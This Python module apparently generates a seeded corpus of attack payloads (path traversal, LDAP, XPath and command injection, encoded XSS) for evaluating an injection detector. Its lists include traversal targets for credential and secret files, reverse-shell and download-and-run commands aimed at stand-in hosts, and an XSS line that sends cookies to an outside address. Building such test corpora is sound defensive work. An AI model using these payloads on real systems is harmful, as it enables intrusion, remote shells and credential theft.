"""Attack payloads for corpus/generated_attacks/, built by construction (no wordlist is copied).

Used by tools/build_corpus.py (not part of the package). Each family is a small grammar: the parts
an attack is made of (an encoding of each character, a separator, a command, a filter component)
are listed once, and the generator combines them with a seeded ``random.Random``. A row is
``(family, technique, payload)``; the technique names the construction (``path.overlong-3``,
``ldap.or-branch`` ...) so that the evaluation can say which construction a miss comes from.

Families:
- ``path``: traversal written with every encoding of ``.``, ``/`` and ``\\`` that real decoders
  have accepted (percent, double percent, overlong UTF-8 in 2-6 bytes, IIS ``%u`` with ASCII,
  full-width and math-symbol code points, filter-stripping forms ``....//`` and ``..././``,
  ``..;/``, NUL and control-byte padding), depth 1-8, aimed at Unix, Windows and cloud-runtime
  files (Lambda, Greengrass, Kubernetes, container secrets); at a value's start, after a
  legitimate directory and inside a URL.
- ``ldap``: filter injection following RFC 4515's grammar: the application's filter closed early
  and new ``&``/``|``/``!`` components opened, presence and substring probes, extensible matches,
  NUL truncation; plain and percent-encoded.
- ``xpath``: XPath 1.0 injection: string or number context broken, a boolean or a union added
  (``or``, ``and``, ``|``), probing functions (``count``, ``name``, ``string-length``,
  ``substring``, ``contains``), node tests and axes.
- ``cmdi``: commands joined with every separator (``;``, ``|``, ``||``, ``&``, ``&&``, a newline
  byte, ``%0a``, a literal ``\\n``, ``%0d%0a``), command substitution (``$(...)``, backticks)
  and server-side includes (``<!--#exec ...-->`` and its HTML-entity and percent encodings).
- ``xss``: script-running markup and script URLs in entity-encoded (named, decimal, hex, padded,
  without ``;``), JavaScript-escaped (``\\x3c``, ``\\u003c``, ``\\u{3c}``), percent-encoded and
  mixed forms.
"""

import random

# ---------------------------------------------------------------- path traversal

DOT = {
    "plain": ["."], "pct": ["%2e", "%2E"], "double": ["%252e", "%252E"], "overlong-2": ["%c0%ae", "%C0%AE"],
    "overlong-3": ["%e0%80%ae"], "overlong-4": ["%f0%80%80%ae"], "overlong-5": ["%f8%80%80%80%ae"],
    "overlong-6": ["%fc%80%80%80%80%ae"], "iis-u": ["%u002e", "%U002E"], "fullwidth": ["%uff0e", "\uff0e"],
}
SLASH = {
    "plain": ["/"], "pct": ["%2f", "%2F"], "double": ["%252f", "%252F"], "overlong-2": ["%c0%af", "%C0%AF"],
    "overlong-3": ["%e0%80%af"], "overlong-4": ["%f0%80%80%af"], "overlong-5": ["%f8%80%80%80%af"],
    "overlong-6": ["%fc%80%80%80%80%af"], "iis-u": ["%u002f"], "fullwidth": ["%uff0f", "\uff0f"],
    "math": ["%u2215", "\u2215"],
}
BACKSLASH = {
    "plain": ["\\"], "pct": ["%5c", "%5C"], "double": ["%255c", "%255C"], "overlong-2": ["%c1%9c", "%C1%9C"],
    "overlong-3": ["%e0%81%9c"], "overlong-4": ["%f0%80%81%9c"], "iis-u": ["%u005c"], "fullwidth": ["%uff3c", "\uff3c"],
    "math": ["%u2216", "\u2216"],
}
FILTER_EVASIONS = ["....//", "...//", "..././", "....\\\\", "..;/", "..%00/", "..%01/", "..%0d/", "..%01%c0%5c",
                   ".%2e/", "%2e./", "..%c0%af", "..%255c", "..%5c", "..%c1%9c", "..%u2215", "..\\/", "../\\",
                   ".../.../", "..//", "/./\\/./../", "..\\.\\"]
UNIX_TARGETS = ["etc/passwd", "etc/shadow", "etc/issue", "etc/hosts", "etc/group", "etc/hostname", "etc/crontab",
                "etc/ssh/sshd_config", "proc/self/environ", "proc/self/cmdline", "proc/version", "proc/self/fd/0",
                "root/.ssh/id_rsa", "root/.bash_history", "home/pi/.ssh/authorized_keys", "var/log/auth.log",
                "var/log/apache2/access.log", "usr/local/etc/php.ini", "etc/mosquitto/mosquitto.conf", "etc/nginx/nginx.conf"]
WINDOWS_TARGETS = ["boot.ini", "windows/win.ini", "windows/system32/drivers/etc/hosts", "winnt/win.ini",
                   "windows/system32/config/sam", "windows/repair/sam", "inetpub/wwwroot/web.config",
                   "windows/system.ini", "windows/panther/unattend.xml", "program files/amazon/ssm/seelog.xml"]
CLOUD_TARGETS = ["var/task/lambda_function.py", "var/runtime/bootstrap", "proc/self/environ", "opt/extensions/layer.zip",
                 "root/.aws/credentials", "home/ec2-user/.aws/config", "var/run/secrets/kubernetes.io/serviceaccount/token",
                 "greengrass/v2/config/effectiveConfig.yaml", "greengrass/v2/privKey.key", "greengrass/v2/thingCert.crt",
                 "etc/kubernetes/admin.conf", "root/.kube/config", "run/secrets/db_password", "root/.docker/config.json",
                 "home/ggc_user/.ssh/id_ed25519", "var/lib/cloud/instance/user-data.txt"]
PREFIXES = ["", "", "", "images/", "static/css/", "uploads/2024/", "/var/www/html/", "files/", "C:\\inetpub\\wwwroot\\",
            "/opt/app/public/", "docs/", "templates/"]
URL_WRAPPERS = ["{p}", "{p}", "/download?file={p}", "/api/v1/files/{p}", "index.php?page={p}", "/static/{p}",
                "file={p}", "https://cdn.example.com/assets/{p}"]


def _target_sep(target, sep):
    return target.replace("/", sep)


def traversal(rnd, n):
    out = []
    names = sorted(set(DOT) | set(SLASH) | set(BACKSLASH))
    techniques = names + ["mixed", "filter-evasion", "nul-suffix"]
    for i in range(n):
        tech = techniques[i % len(techniques)]
        depth = rnd.randrange(1, 9)
        windows = rnd.random() < 0.3
        pool = WINDOWS_TARGETS if windows else (CLOUD_TARGETS if rnd.random() < 0.4 else UNIX_TARGETS)
        target = rnd.choice(pool)
        if tech == "filter-evasion":
            unit = rnd.choice(FILTER_EVASIONS)
            trav = unit * depth
            sep = "\\" if "\\" in unit and windows else "/"
        elif tech == "mixed":
            parts = []
            for _ in range(depth):
                d = rnd.choice(rnd.choice(list(DOT.values())))
                d2 = rnd.choice(rnd.choice(list(DOT.values())))
                s = rnd.choice(rnd.choice(list(SLASH.values()) + list(BACKSLASH.values())))
                parts.append(d + d2 + s)
            trav = "".join(parts)
            sep = rnd.choice(["/", "\\"]) if windows else "/"
        elif tech == "nul-suffix":
            trav = "../" * depth if not windows else "..\\" * depth
            sep = "\\" if windows else "/"
            target = target + rnd.choice(["%00", "\x00", "%00.png", "\x00.jpg", "%2500.html"])
        else:
            dots = DOT.get(tech) or ["."]
            seps = (BACKSLASH.get(tech) if windows and tech in BACKSLASH else SLASH.get(tech)) or \
                (BACKSLASH.get(tech) or ["/"])
            d = rnd.choice(dots)
            s = rnd.choice(seps)
            trav = (d + d + s) * depth
            sep = s if rnd.random() < 0.5 else ("\\" if s in BACKSLASH.get(tech, ()) else "/")
        path = trav + _target_sep(target, sep)
        prefix = rnd.choice(PREFIXES)
        if prefix.startswith("C:\\") and not windows:
            prefix = ""
        value = rnd.choice(URL_WRAPPERS).format(p=prefix + path)
        out.append(("path", "path." + tech, value))
    return out


# ---------------------------------------------------------------- LDAP (RFC 4515)

LDAP_ATTRS = ["uid", "cn", "sn", "mail", "objectClass", "userPassword", "sAMAccountName", "memberOf", "givenName",
              "telephoneNumber", "ou", "description", "department", "employeeType", "homeDirectory", "loginShell",
              "userPrincipalName", "pwdLastSet", "accountStatus", "o"]
LDAP_VALUES = ["*", "admin", "a*", "*adm*", "root", "j*", "*)", "svc_backup", "1", "TRUE", "person", "*@example.com"]
LDAP_USER_PREFIX = ["*", "admin", "jsmith", "", "x", "a*", "guest", "*adm", "john.doe@example.com"]


def _ldap_item(rnd):
    attr = rnd.choice(LDAP_ATTRS)
    kind = rnd.random()
    if kind < 0.4:
        return "(%s=*)" % attr
    if kind < 0.65:
        return "(%s=%s)" % (attr, rnd.choice(LDAP_VALUES).rstrip(")"))
    if kind < 0.75:
        return "(%s%s%s)" % (attr, rnd.choice(["~=", ">=", "<="]), rnd.choice(["a", "0", "z", "20240101000000Z"]))
    if kind < 0.85:
        return "(%s:%s=%s)" % (attr, rnd.choice(["dn:", "1.2.840.113556.1.4.803:", "caseExactMatch:", "dn:2.5.13.5:"]),
                               rnd.choice(["admin", "2", "*"]))
    return "(%s=*%s*)" % (attr, rnd.choice(["adm", "a", "pass", "0"]))


def _ldap_comp(rnd, depth=0):
    r = rnd.random()
    if depth > 1 or r < 0.35:
        return _ldap_item(rnd)
    if r < 0.8:
        op = rnd.choice("|&")
        return "(%s%s)" % (op, "".join(_ldap_comp(rnd, depth + 1) for _ in range(rnd.randrange(1, 4))))
    if r < 0.9:
        return "(!%s)" % _ldap_comp(rnd, depth + 1)
    return rnd.choice(["(&)", "(|)"])


def _pct_some(rnd, text, chars="()*|&!=\x00"):
    return "".join("%%%02x" % ord(c) if c in chars and rnd.random() < 0.8 else c for c in text)


def ldap(rnd, n):
    out = []
    techniques = ["or-branch", "and-branch", "not-branch", "always-true", "nul-truncation", "wildcard-probe", "extensible",
                  "encoded"]
    for i in range(n):
        tech = techniques[i % len(techniques)]
        prefix = rnd.choice(LDAP_USER_PREFIX)
        closes = ")" * rnd.randrange(1, 3)
        if tech == "or-branch":
            body = "(|%s%s)" % (_ldap_item(rnd), _ldap_comp(rnd))
        elif tech == "and-branch":
            body = "(&%s%s)" % (_ldap_item(rnd), _ldap_comp(rnd))
        elif tech == "not-branch":
            body = "(!%s)" % _ldap_item(rnd)
        elif tech == "always-true":
            body = rnd.choice(["(&)", "(|(objectClass=*))", "(objectClass=*)", "(|(&)(uid=*))", "(&(objectClass=*)"])
        elif tech == "nul-truncation":
            body = _ldap_comp(rnd) + rnd.choice(["\x00", "%00", "\\00"])
        elif tech == "wildcard-probe":
            attr = rnd.choice(LDAP_ATTRS)
            body = "(%s=%s*)" % (attr, "".join(rnd.choice("abcdefghijklmnop0123456789") for _ in range(rnd.randrange(1, 4))))
        elif tech == "extensible":
            body = "(%s:dn:=%s)" % (rnd.choice(LDAP_ATTRS), rnd.choice(["admin", "Domain Admins", "*"]))
        else:
            body = _ldap_comp(rnd)
        tail = rnd.choice(["", "", "(", "(|(%s=*" % rnd.choice(LDAP_ATTRS), "(&(%s=" % rnd.choice(LDAP_ATTRS)])
        payload = prefix + closes + body + tail
        if tech == "encoded" or rnd.random() < 0.15:
            payload = _pct_some(rnd, payload)
            tech_name = "ldap.encoded" if tech == "encoded" else "ldap.%s-encoded" % tech
        else:
            tech_name = "ldap." + tech
        out.append(("ldap", tech_name, payload))
    return out


# ---------------------------------------------------------------- XPath 1.0

XPATH_NODES = ["user", "users/user", "account", "employee", "*", "node()", "password", "name", "role", "credentials/secret"]


def _xpath_probe(rnd):
    node = rnd.choice(XPATH_NODES)
    i = rnd.randrange(1, 5)
    return rnd.choice([
        "count(/*)=%d" % i, "count(//%s)>0" % node, "name(/*[%d])='%s'" % (i, rnd.choice(["users", "root", "config"])),
        "string-length(name(/*[1]))=%d" % rnd.randrange(3, 9), "substring(name(/*[1]),%d,1)='%s'" % (i, rnd.choice("abcrstu")),
        "substring(//%s[%d]/password,1,1)='%s'" % (rnd.choice(["user", "account"]), i, rnd.choice("aeimqx")),
        "contains(//%s,'%s')" % (node, rnd.choice(["admin", "a", "pass"])), "string-length(//user[%d]/password)>%d" % (i, rnd.randrange(3, 12)),
        "position()=%d" % i, "starts-with(name(),'%s')" % rnd.choice("apu"), "boolean(//%s)" % node,
        "number(//user[1]/id)>0", "normalize-space(//role)='admin'", "translate(//user[1]/name,'a','a')='admin'"])


def xpath(rnd, n):
    out = []
    techniques = ["string-or", "string-and-probe", "number-or", "union", "bracket-break", "comment-tail", "encoded"]
    for i in range(n):
        tech = techniques[i % len(techniques)]
        q = rnd.choice(["'", '"'])
        user = rnd.choice(["", "admin", "x", "guest", "jsmith", "1"])
        if tech == "string-or":
            payload = "%s%s or %s%s%s=%s%s" % (user, q, q, rnd.choice("1ax"), q, q, rnd.choice("1ax"))
            payload = rnd.choice([payload, "%s%s or 1=1 or %s%s=%s" % (user, q, q, q, q),
                                  "%s%s or true() or %s" % (user, q, q), "%s%s or %s=%s" % (user, q, _xpath_probe(rnd), q)])
        elif tech == "string-and-probe":
            payload = "%s%s and %s and %s1%s=%s1" % (user, q, _xpath_probe(rnd), q, q, q)
        elif tech == "number-or":
            payload = "%s or %s" % (rnd.randrange(0, 99), rnd.choice(["1=1", "true()", _xpath_probe(rnd), "count(//*)>0"]))
        elif tech == "union":
            payload = "%s%s] | //%s | //*[%s" % (user, q, rnd.choice(XPATH_NODES + ["*", "@*", "text()"]), q)
            payload = rnd.choice([payload, "%s%s)] | //%s | a[(%s" % (user, q, rnd.choice(XPATH_NODES), q),
                                  "%s | //%s" % (rnd.randrange(1, 9), rnd.choice(XPATH_NODES))])
        elif tech == "bracket-break":
            payload = "%s%s][%s][%s%s%s=%s%s" % (user, q, _xpath_probe(rnd), q, "a", q, q, "a")
            payload = rnd.choice([payload, "%s%s]/../*[%s" % (user, q, _xpath_probe(rnd)),
                                  "%s%s]/parent::*/child::node()[%s" % (user, q, "1"),
                                  "%s%s]/ancestor::*[1]/%s[%s" % (user, q, rnd.choice(XPATH_NODES), "1")])
        elif tech == "comment-tail":
            payload = "%s%s or %s (: %s" % (user, q, _xpath_probe(rnd), rnd.choice(["", "comment", "x"]))
        else:
            base = "%s%s or %s or %s%s=%s" % (user, q, _xpath_probe(rnd), q, q, q)
            payload = "".join("%%%02x" % ord(c) if c in "'\"()[]=/| " and rnd.random() < 0.8 else c for c in base)
        out.append(("xpath", "xpath." + tech, payload))
    return out


# ---------------------------------------------------------------- command injection

SEPARATORS = {"semicolon": [";", "; ", " ; "], "pipe": ["|", " | "], "or": ["||", " || "], "and": ["&&", " && "],
              "amp": ["&", " & "], "newline": ["\n", "\r\n"], "pct-newline": ["%0a", "%0A", "%0d%0a", "%0D%0A"],
              "literal-newline": ["\\n", "\\r\\n", "\\n "], "pct-semicolon": ["%3b", "%3B"], "pct-pipe": ["%7c", "%7C"],
              "pct-amp": ["%26%26", "%26"]}
COMMANDS = ["id", "whoami", "uname -a", "cat /etc/passwd", "ls -la /", "ping -c 3 10.0.0.1", "sleep 10",
            "nslookup x.attacker.example", "curl http://attacker.example/x.sh | sh", "wget -qO- http://203.0.113.9/a",
            "nc -e /bin/sh 203.0.113.9 4444", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", "echo pwned > /tmp/x",
            "rm -rf /tmp/cache", "cat /proc/self/environ", "env", "ifconfig", "netstat -an", "ps aux",
            "python3 -c 'import os;os.system(\"id\")'", "perl -e 'print 1'", "busybox telnetd -l /bin/sh",
            "type C:\\windows\\win.ini", "dir c:\\", "net user", "ipconfig /all", "whoami /priv",
            "powershell -nop -c iex(iwr http://203.0.113.9/p.ps1)", "certutil -urlcache -f http://203.0.113.9/x.exe x.exe",
            "chmod 777 /etc/shadow", "tftp -i 203.0.113.9 GET x", "sh -c id", "head -n1 /etc/shadow", "base64 /etc/passwd"]
INNOCENT = ["127.0.0.1", "example.com", "report.pdf", "8.8.8.8", "hello", "1", "test.txt", "eth0", "sensor-17", ""]
SSI = ['<!--#exec cmd="{c}" -->', '<!--#exec cmd="{c}"-->', "<!--#exec cgi=\"/cgi-bin/{f}\" -->",
       '<!--#include virtual="/etc/passwd" -->', '<!--#include file="../../../etc/passwd"-->',
       '<!--#echo var="DOCUMENT_ROOT" -->', "<!--#printenv -->", '<!--#set var="x" value="{c}" -->',
       '<!--#config errmsg="{c}" -->', '<!--#exec cmd="{c}" --><!--#echo var="DATE_LOCAL" -->',
       '<!--#if expr="${{x}} = 1" --><!--#exec cmd="{c}" --><!--#endif -->', '<!--#fsize file="index.html" -->']


def _spaced(rnd, cmd):
    r = rnd.random()
    if r < 0.1:
        return cmd.replace(" ", "${IFS}")
    if r < 0.15:
        return cmd.replace(" ", "\t")
    if r < 0.2:
        return cmd.replace(" ", "$IFS$9")
    return cmd


def _entities(rnd, text):
    style = rnd.choice(["named", "decimal", "hex"])
    named = {"<": "&lt;", ">": "&gt;", '"': "&quot;", "&": "&amp;"}
    out = []
    for c in text:
        if c in '<>"':
            out.append(named[c] if style == "named" else ("&#%d;" % ord(c) if style == "decimal" else "&#x%x;" % ord(c)))
        elif c in "!#-" and style != "named" and rnd.random() < 0.5:
            out.append("&#%d;" % ord(c) if style == "decimal" else "&#x%x;" % ord(c))
        else:
            out.append(c)
    return "".join(out)


def cmdi(rnd, n):
    out = []
    techniques = sorted(SEPARATORS) + ["substitution-dollar", "substitution-backtick", "ssi", "ssi-entities",
                                       "ssi-percent", "quoted-breakout"]
    for i in range(n):
        tech = techniques[i % len(techniques)]
        cmd = _spaced(rnd, rnd.choice(COMMANDS))
        lead = rnd.choice(INNOCENT)
        if tech in SEPARATORS:
            sep = rnd.choice(SEPARATORS[tech])
            tail = rnd.choice(["", "", "#", ";", " &", "%00", "\\n"]) if not tech.startswith("pct") else rnd.choice(["", "%23"])
            if tech.startswith("pct"):
                cmd = cmd.replace(" ", rnd.choice(["%20", "+", "%09", " "]))
            payload = lead + sep + cmd + tail
        elif tech == "substitution-dollar":
            payload = rnd.choice(["{l}$({c})", "$({c})", "{l}\"$({c})\"", "{l}';$({c});'", "x=$({c})"]).format(l=lead, c=cmd)
        elif tech == "substitution-backtick":
            payload = rnd.choice(["{l}`{c}`", "`{c}`", "{l}\"`{c}`\"", "{l};`{c}`"]).format(l=lead, c=cmd)
        elif tech.startswith("ssi"):
            ssi = rnd.choice(SSI).format(c=cmd.replace('"', "'"), f=rnd.choice(["test.sh", "id.cgi", "env.pl"]))
            if tech == "ssi-entities":
                ssi = _entities(rnd, ssi)
            elif tech == "ssi-percent":
                ssi = "".join("%%%02X" % ord(c) if c in '<>!#"= ' and rnd.random() < 0.85 else c for c in ssi)
            payload = rnd.choice(["", "", "Hello ", "name="]) + ssi
        else:
            q = rnd.choice(["'", '"'])
            payload = "%s%s%s%s%s" % (lead, q, rnd.choice(["; ", " && ", " | ", "\n"]), cmd, rnd.choice([" #", "; " + q, " " + q]))
        out.append(("cmdi", "cmdi." + tech, payload))
    return out


# ---------------------------------------------------------------- XSS in encoded forms

XSS_BASES = ['<script>alert(1)</script>', '<img src=x onerror=alert(document.domain)>', '<svg onload=alert(1)>',
             '<svg/onload=confirm`1`>', '<iframe src="javascript:alert(1)"></iframe>', '<body onload=alert(1)>',
             '<details open ontoggle=alert(1)>', '<a href="javascript:alert(document.cookie)">click</a>',
             '"><script>fetch("//203.0.113.9/?c="+document.cookie)</script>', "'><img src=1 onerror=prompt(1)>",
             '<input autofocus onfocus=alert(1)>', '<video><source onerror="alert(1)">', '<math><mtext><script>alert(1)</script>',
             '<object data="javascript:alert(1)">', '<embed src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
             '<marquee onstart=alert(1)>', '<form action="javascript:alert(1)"><button>x</button></form>',
             'javascript:alert(1)', '" onmouseover="alert(1)', "' autofocus onfocus='alert(1)",
             '<scr<script>ipt>alert(1)</scr</script>ipt>', '<style>@import "//203.0.113.9/x.css";</style>',
             '<link rel=import href="//203.0.113.9/x">', '<base href="//203.0.113.9/">', '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">']
XSS_ENCODINGS = ["named", "decimal", "hex", "padded-decimal", "no-semicolon", "js-hex", "js-unicode", "js-unicode-braces",
                 "percent", "double-percent", "mixed", "scheme-entities", "json-unicode"]


def _enc_char(c, how):
    o = ord(c)
    return {"decimal": "&#%d;" % o, "hex": "&#x%x;" % o, "padded-decimal": "&#%07d;" % o, "no-semicolon": "&#%d" % o,
            "js-hex": "\\x%02x" % o, "js-unicode": "\\u%04x" % o, "js-unicode-braces": "\\u{%x}" % o,
            "percent": "%%%02X" % o, "double-percent": "%%25%02X" % o, "json-unicode": "\\u%04X" % o}[how]


def xss(rnd, n):
    out = []
    named = {"<": "&lt;", ">": "&gt;", '"': "&quot;", "'": "&#39;", "&": "&amp;", "(": "&lpar;", ")": "&rpar;",
             ":": "&colon;", "/": "&sol;", "=": "&equals;"}
    for i in range(n):
        how = XSS_ENCODINGS[i % len(XSS_ENCODINGS)]
        base = rnd.choice(XSS_BASES)
        special = "<>\"'()=:/`"
        if how == "named":
            payload = "".join(named.get(c, c) if c in special and rnd.random() < 0.9 else c for c in base)
        elif how == "mixed":
            payload = "".join(_enc_char(c, rnd.choice(["decimal", "hex", "percent", "js-unicode"])) if c in special
                              and rnd.random() < 0.7 else c for c in base)
        elif how == "scheme-entities":
            if "javascript:" not in base:
                base = rnd.choice(['<a href="javascript:alert(1)">x</a>', "javascript:alert(1)",
                                   '<iframe src="javascript:alert(1)">'])
            word = "javascript:"
            enc = "".join(rnd.choice([c, "&#%d;" % ord(c), "&#x%X;" % ord(c), c + "&#x09;", c + "&Tab;", c + "&NewLine;"])
                          for c in word)
            payload = base.replace(word, enc)
        elif how in ("js-hex", "js-unicode", "js-unicode-braces", "json-unicode"):
            payload = "".join(_enc_char(c, how) if c in "<>\"'" else c for c in base)
        else:
            payload = "".join(_enc_char(c, how) if c in special and rnd.random() < 0.9 else c for c in base)
        out.append(("xss", "xss." + how, payload))
    return out


GENERATORS = [("path", traversal, 1400), ("ldap", ldap, 640), ("xpath", xpath, 560), ("cmdi", cmdi, 1200),
              ("xss", xss, 780)]


def attacks(seed=15):
    """Every generated attack as ``(family, technique, payload)``, in a fixed order, without duplicates."""
    out = []
    seen = set()
    for name, gen, count in GENERATORS:
        rnd = random.Random("%s:%s" % (seed, name))
        for row in gen(rnd, count):
            if row[2] not in seen:
                seen.add(row[2])
                out.append(row)
    return out
